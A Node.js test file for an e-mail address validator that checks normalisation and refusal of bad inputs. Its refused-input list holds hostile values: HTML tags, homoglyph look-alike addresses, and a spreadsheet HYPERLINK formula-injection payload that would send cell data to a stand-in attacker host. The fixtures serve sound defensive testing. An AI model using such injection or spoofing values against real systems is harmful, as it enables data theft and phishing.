import assert from 'node:assert/strict';
import { test } from 'node:test';
import { checkMailAddress } from './mail-address.js';

test('addresses: a bare, valid, NFC address is taken (lower-cased); HTML, a name, NUL, invalid UTF-8, look-alikes and 1 MB are refused without quoting them', () => {
  assert.deepEqual(checkMailAddress('Alice.Smith@A.nhs.uk'), { address: 'alice.smith@a.nhs.uk' });
  // NFD (o + combining diaeresis) is stored NFC: one spelling per mailbox.
  assert.deepEqual(checkMailAddress('Bjo\u0308rn@b.nhs.uk'), { address: 'bj\u00f6rn@b.nhs.uk' });
  const refused: [string, RegExp][] = [
    ['<b>x</b>@evil.example.org', /angle brackets/],
    ['Name <other@domain.org>', /angle brackets/],
    ['name<other@domain.org>', /angle brackets/],
    ['a\u0000b@x.org', /control character/],
    ['a\u0007@x.org', /control character/],
    ['caf\uFFFD@x.org', /not valid UTF-8/],
    ['p\u0430ypal@x.org', /look-alike/], // Cyrillic а among Latin letters
    ['alice@\u0430pple.com', /look-alike/],
    ['\uFF41lice@x.org', /compatibility characters/], // fullwidth a
    [`${'a'.repeat(1 << 20)}@x.org`, /longer than 254/],
    [`${'a'.repeat(65)}@x.org`, /not an e-mail address \(address local part too long\)/],
    ['a@b', /not an e-mail address/],
    ['a@@b.org', /not an e-mail address/],
    ['a b@x.org', /not an e-mail address/],
    ['=HYPERLINK("http://evil.example/?q="&A1,"click")@evil.example.org', /not an e-mail address/],
  ];
  for (const [text, expected] of refused) {
    const checked = checkMailAddress(text);
    assert.ok('problem' in checked, JSON.stringify(text.slice(0, 80)));
    assert.match(checked.problem, expected, JSON.stringify(text.slice(0, 80)));
    assert.ok(!checked.problem.includes(text.slice(0, 8)), 'the text is not quoted');
  }
});
